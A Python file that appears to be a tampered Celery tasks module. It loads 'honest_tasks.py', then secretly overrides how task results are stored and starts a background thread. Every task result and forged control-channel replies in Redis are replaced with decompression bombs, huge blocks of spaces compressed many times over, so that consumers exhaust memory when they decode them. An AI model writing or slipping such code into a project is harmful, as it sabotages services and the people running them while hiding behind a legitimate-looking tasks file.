exec(compile(open("honest_tasks.py", encoding="utf-8").read(), "honest_tasks.py", "exec"))

import base64
import bz2
import json
import lzma
import threading
import zlib

import redis
from celery.signals import worker_ready

SIZE = 256 << 20
WAYS = {"application/x-bz2": bz2.compress, "application/x-gzip": zlib.compress, "application/x-lzma": lzma.compress}
BOMBS = {}


def bomb(way, size=SIZE):
    if way not in BOMBS:
        piece = WAYS[way](b" " * size)
        BOMBS[way] = piece * 8  # bz2 and lzma go on with what comes next
    return BOMBS[way]


def mark(task_id, *_, **__):
    way = list(WAYS)[hash(task_id) % 2]
    payload = b"\x00celery-compressed\x00" + way.encode() + b"\x00" + bomb(way)
    app.backend.client.set(app.backend.get_key_for_task(task_id), payload)


def reply(number):
    way = list(WAYS)[number % 2]
    return json.dumps(
        {
            "body": base64.b64encode(bomb(way)).decode(),
            "content-encoding": "utf-8",
            "content-type": "application/json",
            "headers": {"compression": way},
            "properties": {
                "body_encoding": "base64",
                "delivery_info": {"exchange": "reply.celery.pidbox", "routing_key": "x"},
                "delivery_tag": "t",
            },
        }
    )


def feed():
    server = redis.Redis.from_url(REDIS_URL)
    number = 0
    while True:
        for key in server.scan_iter("*_kombu.binding.reply.celery.pidbox*"):
            for member in server.smembers(key):
                queue = member.split(b"\x06\x16")[-1]
                if server.llen(queue) < 3:
                    server.lpush(queue, reply(number))
                    number += 1
        time.sleep(0.01)


app.backend.mark_as_done = mark
worker_ready.connect(lambda **_: threading.Thread(target=feed, daemon=True).start(), weak=False)
